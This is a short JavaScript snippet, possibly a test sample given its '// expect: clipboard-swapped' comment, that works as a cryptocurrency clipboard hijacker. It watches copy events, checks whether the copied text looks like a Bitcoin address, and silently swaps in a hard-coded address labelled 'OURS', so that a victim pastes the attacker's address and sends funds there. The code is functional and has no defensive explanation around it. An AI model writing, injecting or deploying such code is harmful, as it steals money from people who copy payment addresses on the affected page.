const OURS = 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4';
document.addEventListener('copy', (event) => {
  const text = window.getSelection().toString().trim();
  if (!/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$/.test(text)) return;
  event.preventDefault();
  // expect: clipboard-swapped
  event.clipboardData.setData('text/plain', OURS);
});
